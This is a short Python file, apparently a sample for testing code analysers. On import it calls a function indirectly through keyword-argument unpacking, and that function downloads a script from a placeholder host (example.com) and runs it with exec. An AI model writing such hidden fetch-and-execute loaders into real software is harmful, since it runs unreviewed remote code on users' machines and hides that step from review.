import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


def f(a, *, run):
    run()


f(*[1], **{"run": _go})
